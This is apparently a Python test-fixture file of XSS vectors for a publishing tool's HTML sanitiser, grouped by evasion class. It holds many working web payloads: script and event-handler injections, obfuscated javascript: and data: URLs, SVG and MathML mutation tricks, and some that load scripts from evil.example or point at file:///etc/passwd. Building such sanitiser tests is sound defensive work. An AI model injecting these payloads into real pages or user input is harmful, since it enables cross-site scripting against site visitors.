"""XSS vectors for the sanitising tests (`test_xss.py`), written out by hand.

The lists:

* `HTML_VECTORS`: (name, html) pairs pushed as entry *content* through every source kind,
  grouped by evasion class (`CLASSES` names the class of each vector);
* `MARKDOWN_VECTORS`: Markdown syntax that makes links and images (local Markdown only);
* `TEXT_VECTORS`: values for plain-text fields (titles, authors, tags, categories, summaries);
* `URL_VECTORS`: values for URL fields (entry links, enclosure URLs, front matter ``link``);
* `FILENAME_VECTORS`, `LANGUAGE_VECTOR`: local article file names, language tags;
* `CONTROL_CHAR_VECTORS` (raw control characters: JSON Feed and local files only, XML cannot
  carry them) and `CONTROL_REFERENCE_VECTORS` (``&#1;`` and the like).

Names are lowercase ASCII words joined by ``-`` (they become titles and file names).
`CONTROL` is legitimate HTML that must survive: a link and an image.
"""

from __future__ import annotations

import base64


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


_SCRIPT_PAGE = "<script>alert(document.domain)</script>"
_SVG_ONLOAD = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
_SVG_USE_TARGET = (
    '<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>'
)
_LONG = "A" * 40_000

CONTROL = (
    "control",
    '<p>Hello <a href="https://example.com/">link</a> '
    '<img src="https://example.com/i.png" alt="i"></p>',
)
MARKDOWN_CONTROL = (
    "md-control",
    "Hello [link](https://example.com/) ![i](https://example.com/i.png)",
)

# (class, [(name, html), ...]); flattened into HTML_VECTORS below.
_GROUPS: list[tuple[str, list[tuple[str, str]]]] = [
    (
        "script tags and case tricks",
        [
            ("script-plain", "<script>alert(1)</script>"),
            ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
            ("script-src", '<script src="https://evil.example/x.js"></script>'),
            ("script-slash-attr", '<script/xss src="https://evil.example/x.js"></script>'),
            ("script-unclosed", "<p>before</p><script>alert(1)"),
            ("script-upper-spaces", "<SCRIPT >alert(1)</SCRIPT >"),
            (
                "script-type-module",
                '<script type="module">import "https://evil.example/m.js"</script>',
            ),
        ],
    ),
    (
        "event handler attributes",
        [
            ("img-onerror", "<img src=x onerror=alert(1)>"),
            ("img-onerror-case", "<IMG SRC=x OnErRoR=alert(1)>"),
            ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
            ("img-onerror-backticks", "<img src=`x` onerror=`alert(1)`>"),
            ("img-onerror-newline", "<img src=x\nonerror\n=\nalert(1)>"),
            ("body-onload", "<body onload=alert(1)>text</body>"),
            ("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
            (
                "a-onclick-mixed-quotes",
                '<a title="a" onclick=\'alert("b")\' href="https://example.com/">x</a>',
            ),
            (
                "a-mailto-onmouseover",
                '<a href="mailto:x@example.com" onmouseover="alert(1)">mail</a>',
            ),
            ("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
            (
                "select-onfocus-autofocus",
                "<select autofocus onfocus=alert(1)><option>x</option></select>",
            ),
            ("textarea-onfocus-autofocus", "<textarea autofocus onfocus=alert(1)>x</textarea>"),
            ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>x</details>"),
            ("marquee-onstart", "<marquee onstart=alert(1)>scrolling</marquee>"),
            (
                "video-poster-onerror",
                "<video poster=javascript:alert(1) onerror=alert(1)>"
                "<source onerror=alert(1)></video>",
            ),
            ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
            ("p-slash-onclick", "<p/onclick=alert(1)>click</p>"),
            ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
            ("image-alias", "<image src=x onerror=alert(1)>"),
        ],
    ),
    (
        "javascript: URLs with entities, encodings, whitespace and case",
        [
            ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
            ("href-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
            ("href-decimal-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
            ("href-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
            (
                "href-padded-entities",
                '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
                '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
            ),
            ("href-hex-no-semicolons", '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>'),
            ("href-entity-in-middle", '<a href="javas&#99;ript:alert(1)">x</a>'),
            ("href-percent-encoded", '<a href="%6Aavascript:alert(1)">x</a>'),
            ("href-raw-tab", '<a href="java\tscript:alert(1)">x</a>'),
            ("href-raw-newline", '<a href="java\nscript:alert(1)">x</a>'),
            ("href-newline-entity", '<a href="java&#10;script:alert(1)">x</a>'),
            ("href-tab-entity", '<a href="java&#09;script:alert(1)">x</a>'),
            ("href-cr-entity", '<a href="java&#13;script:alert(1)">x</a>'),
            ("href-named-tab-newline", '<a href="java&Tab;scr&NewLine;ipt:alert(1)">x</a>'),
            ("href-colon-entity", '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'),
            ("href-leading-space", '<a href=" javascript:alert(1)">x</a>'),
            ("href-leading-control-entity", '<a href="&#1;&#x1f; javascript:alert(1)">x</a>'),
            ("href-leading-nbsp", '<a href="&nbsp;javascript:alert(1)">x</a>'),
            ("href-raw-nbsp-zero-width", '<a href="\u00a0\u200bjavascript:alert(1)">x</a>'),
            ("href-zero-width-inside", '<a href="java\u200bscript:alert(1)">x</a>'),
            ("href-unquoted", "<a href=javascript:alert(1)>x</a>"),
            ("href-payload-percent", '<a href="javascript:%61lert%281%29">x</a>'),
            ("img-src-javascript", '<img src="javascript:alert(1)">'),
            ("img-src-entity-tab", '<IMG SRC="jav&#x09;ascript:alert(1);">'),
            ("href-very-long", '<a href="javascript:alert(1)//' + _LONG + '">long</a>'),
            ("img-very-long-alt", '<img src="x" alt="' + _LONG + '" onerror="alert(1)">'),
        ],
    ),
    (
        "other dangerous schemes",
        [
            ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
            ("href-vbscript-case", '<a href="VbScRiPt:msgbox(1)">x</a>'),
            (
                "href-data-html-base64",
                f'<a href="data:text/html;base64,{_b64(_SCRIPT_PAGE)}">x</a>',
            ),
            ("href-data-html-plain", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
            ("img-data-svg-base64", f'<img src="data:image/svg+xml;base64,{_b64(_SVG_ONLOAD)}">'),
            ("img-data-svg-plain", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"),
            ("href-file", '<a href="file:///etc/passwd">x</a>'),
            ("href-protocol-relative", '<a href="//evil.example/path">x</a>'),
            ("href-backslashes", '<a href="\\\\evil.example\\path">x</a>'),
            ("img-src-protocol-relative", '<img src="//evil.example/i.png">'),
        ],
    ),
    (
        "broken and unclosed tags",
        [
            ("img-onerror-unclosed", "<img src=x onerror=alert(1)//"),
            ("double-lt-script", "<<script>alert(1);//<</script>"),
            ("nested-script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
            ("a-unclosed-attribute", '<a href="javascript:alert(1)'),
            ("img-quote-breakout", '<img """><script>alert(1)</script>">'),
            ("svg-unclosed-onload", "<svg/onload=alert(1)"),
            ("end-tag-with-attributes", "<p>a</p onclick=alert(1)><script >alert(1)</script >"),
        ],
    ),
    (
        "nested quotes and attribute breakouts",
        [
            ("alt-contains-script", '<img src="x" alt="\'><script>alert(1)</script>">'),
            (
                "title-breakout-single",
                '<a title=\'x" onmouseover="alert(1)\' href="https://example.com/">x</a>',
            ),
            (
                "title-breakout-double",
                '<a title="x\' onmouseover=\'alert(1)" href="https://example.com/">x</a>',
            ),
            (
                "attr-entity-quote",
                '<a href="https://example.com/&quot; onclick=&quot;alert(1)">x</a>',
            ),
        ],
    ),
    (
        "svg and mathml",
        [
            ("svg-onload", "<svg onload=alert(1)>"),
            (
                "svg-a-xlink-href",
                '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
            ),
            ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
            (
                "svg-animate-values-href",
                "<svg><a><animate attributeName=href values=javascript:alert(1) />"
                "<text x=20 y=20>x</text></a></svg>",
            ),
            ("svg-set-onmouseover", "<svg><set attributeName=onmouseover to=alert(1)></set></svg>"),
            (
                "svg-use-data-href",
                f'<svg><use href="data:image/svg+xml;base64,{_b64(_SVG_USE_TARGET)}#x"/></svg>',
            ),
            ("svg-script", "<svg><script>alert(1)</script></svg>"),
            (
                "svg-style-mutation",
                '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
            ),
            (
                "svg-foreignobject-iframe",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
                "</foreignObject></svg>",
            ),
            (
                "math-mglyph-style-mutation",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            ),
            (
                "math-mglyph-comment-mutation",
                "<math><mtext><table><mglyph><style><!--</style>"
                '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
            ),
            ("math-href", '<math href="javascript:alert(1)"><mi>click</mi></math>'),
            (
                "math-maction-xlink",
                '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
                "<mtext>x</mtext></maction></math>",
            ),
        ],
    ),
    (
        "css",
        [
            (
                "style-attr-url-javascript",
                '<div style="background:url(javascript:alert(1))">x</div>',
            ),
            ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
            (
                "style-attr-moz-binding",
                '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
            ),
            (
                "style-attr-escaped",
                '<p style="background:url(&quot;javas\\cript:alert(1)&quot;)">x</p>',
            ),
            (
                "style-element-import",
                "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
            ),
            ("style-element-url", '<style>body{background:url("javascript:alert(1)")}</style>'),
            ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
            ("link-import", '<link rel="import" href="data:text/html,<script>alert(1)</script>">'),
            (
                "position-overlay",
                '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phish</div>',
            ),
        ],
    ),
    (
        "document-level elements",
        [
            ("base-href-javascript", '<base href="javascript:alert(1)//"><a href="x">x</a>'),
            ("base-href-evil", '<base href="https://evil.example/"><a href="x">x</a>'),
            (
                "meta-refresh-javascript",
                '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
            ),
            (
                "meta-refresh-data",
                '<meta http-equiv="refresh" content="0;url=data:text/html;base64,'
                f'{_b64(_SCRIPT_PAGE)}">',
            ),
            (
                "meta-csp-override",
                '<meta http-equiv="Content-Security-Policy" content="script-src *">',
            ),
        ],
    ),
    (
        "frames, objects and embeds",
        [
            ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
            ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
            ("iframe-src-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
            ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
            ("object-data", f'<object data="data:text/html;base64,{_b64(_SCRIPT_PAGE)}"></object>'),
            (
                "object-scriptlet",
                '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
            ),
            ("embed-src", '<embed src="javascript:alert(1)">'),
            ("embed-svg", f'<embed src="data:image/svg+xml;base64,{_b64(_SVG_ONLOAD)}">'),
            ("applet-code", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
        ],
    ),
    (
        "forms",
        [
            (
                "form-action-formaction",
                '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go'
                "</button><input type=submit formaction=javascript:alert(1)></form>",
            ),
            ("button-formaction", "<button form=f formaction=javascript:alert(1)>go</button>"),
            ("isindex", "<isindex action=javascript:alert(1) type=image>"),
            ("input-image-src", '<input type="image" src="javascript:alert(1)">'),
        ],
    ),
    (
        "comments, cdata and processing instructions",
        [
            ("comment-hidden-img", "<!--<img src=x onerror=alert(1)>-->"),
            ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)>-->"),
            ("comment-short-close", "<!--><img src=x onerror=alert(1)>-->"),
            ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
            ("downlevel-revealed", "<![if true]><img src=x onerror=alert(1)><![endif]>"),
            ("cdata-in-html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
            ("processing-instruction", '<? foo="><script>alert(1)</script>">'),
        ],
    ),
    (
        "raw-text and rcdata element tricks",
        [
            (
                "noscript-title-mutation",
                '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
            ),
            ("template-content", "<template><img src=x onerror=alert(1)></template>"),
            ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
            ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
            ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)>"),
            (
                "textarea-title-mutation",
                '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
            ),
            ("title-element-breakout", "<title></title><script>alert(1)</script>"),
            (
                "noembed-mutation",
                '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
            ),
            (
                "noframes-mutation",
                '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
            ),
            (
                "select-template-style",
                "<select><template><style><!--</style><img src=x onerror=alert(1)>-->"
                "</style></template></select>",
            ),
        ],
    ),
    (
        "srcset, picture and other URL-bearing attributes",
        [
            (
                "picture-source-srcset",
                '<picture><source srcset="javascript:alert(1)">'
                '<img srcset="javascript:alert(1) 1x" src="https://example.com/ok.png"></picture>',
            ),
            ("img-srcset-data", f'<img srcset="data:image/svg+xml;base64,{_b64(_SVG_ONLOAD)} 2x">'),
            (
                "table-background",
                '<table background="javascript:alert(1)"><tr>'
                '<td background="javascript:alert(1)">x</td></tr></table>',
            ),
            ("blockquote-cite", '<blockquote cite="javascript:alert(1)">quoted</blockquote>'),
            ("q-cite", '<q cite="javascript:alert(1)">quoted</q>'),
            (
                "ins-del-cite",
                '<ins cite="javascript:alert(1)">a</ins><del cite="vbscript:x">b</del>',
            ),
            (
                "img-longdesc-lowsrc",
                '<img src="https://example.com/i.png" longdesc="javascript:alert(1)"'
                ' lowsrc="javascript:alert(1)">',
            ),
            (
                "area-href",
                '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:alert(1)">'
                '</map><img src="https://example.com/i.png" usemap="#m">',
            ),
            ("a-ping", '<a href="https://example.com/" ping="javascript:alert(1)">x</a>'),
            ("xml-base-attribute", '<div xml:base="javascript:alert(1)//"><a href="x">x</a></div>'),
        ],
    ),
]

HTML_VECTORS: list[tuple[str, str]] = [vector for _, group in _GROUPS for vector in group]
CLASSES: dict[str, str] = {name: cls for cls, group in _GROUPS for name, _ in group}

MARKDOWN_VECTORS: list[tuple[str, str]] = [
    ("md-link-javascript", "[click](javascript:alert(1))"),
    ("md-link-javascript-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-newline-entity", "[click](java&#10;script:alert(1))"),
    ("md-link-angle-destination", "[click](<javascript:alert(1)>)"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-link-data-html", f"[click](data:text/html;base64,{_b64(_SCRIPT_PAGE)})"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-data-svg", f"![x](data:image/svg+xml;base64,{_b64(_SVG_ONLOAD)})"),
    ("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-reference-javascript", "[click][r]\n\n[r]: javascript:alert(1)"),
    ("md-title-breakout", '[click](https://example.com/ "a\\" onmouseover=\\"alert(1)")'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com/)"),
    ("md-html-block", "<div onclick=alert(1)>\n\n*emphasis* inside\n\n</div>"),
    ("md-inline-html", "Text with <span onmouseover=alert(1)>inline html</span> in it."),
]

# Plain-text fields: each must come out as the same text, never as markup.
TEXT_VECTORS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("attr-breakout-img", '"><img src=x onerror=alert(1)>'),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("double-escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("single-quote-svg", "'\"><svg onload=alert(1)>"),
    ("cdata-breakout", "]]><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("javascript-text", "javascript:alert(1)"),
    ("double-escaped-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ("comment-breakout", "--><script>alert(1)</script><!--"),
]

# Vectors usable in a file name (no "/").
FILENAME_VECTORS: list[tuple[str, str]] = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("attr-breakout", '"><svg onload=alert(1)>'),
    ("javascript", "javascript:alert(1)"),
]

# URL fields (entry link, enclosure URL, front matter link): only http(s) may be published.
URL_VECTORS: list[tuple[str, str]] = [
    ("javascript", "javascript:alert(1)"),
    ("javascript-case-space", " JaVaScRiPt:alert(1)"),
    ("javascript-tab", "java\tscript:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data-html", f"data:text/html;base64,{_b64(_SCRIPT_PAGE)}"),
    ("quote-breakout", 'https://example.com/"><script>alert(1)</script>'),
]

# A language tag from a feed or front matter ends up in lang attributes.
LANGUAGE_VECTOR = '"><script>alert(1)</script>'


def xml_safe(text: str) -> bool:
    """Whether lxml can write `text` into an XML document (no XML-illegal characters)."""
    return not any((ord(c) < 0x20 and c not in "\t\n\r") or c in "\ufffe\uffff" for c in text)


# Raw control characters cannot be written into XML: these go through JSON Feed and the
# local formats only.
CONTROL_CHAR_VECTORS: list[tuple[str, str]] = [
    ("href-raw-leading-controls", '<a href="\x01\x02\x1f javascript:alert(1)">x</a>'),
    ("script-with-nul", "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x onerror\x00=alert(1)>"),
    ("href-raw-escape-char", '<a href="java\x1bscript:alert(1)">x</a>'),
]

# Numeric character references to characters XML cannot carry: an HTML parser decodes them,
# so they must be removed after sanitising, not only before. Run apart from the others
# (`test_xss.test_control_character_references_do_not_break_publishing`).
CONTROL_REFERENCE_VECTORS: list[tuple[str, str]] = [
    ("text-control-reference", "<p>before&#1;after</p>"),
    ("attribute-control-reference", '<img src="https://example.com/i.png" alt="x&#x1f;y">'),
    ("noncharacter-reference", "<p>non&#xFFFF;char</p>"),
    ("url-control-reference", '<a href="https://example.com/&#x7;">x</a>'),
]

CLASSES.update({name: "raw control characters" for name, _ in CONTROL_CHAR_VECTORS})
CLASSES.update({name: "control character references" for name, _ in CONTROL_REFERENCE_VECTORS})
CLASSES.update({name: "markdown link syntax" for name, _ in MARKDOWN_VECTORS})
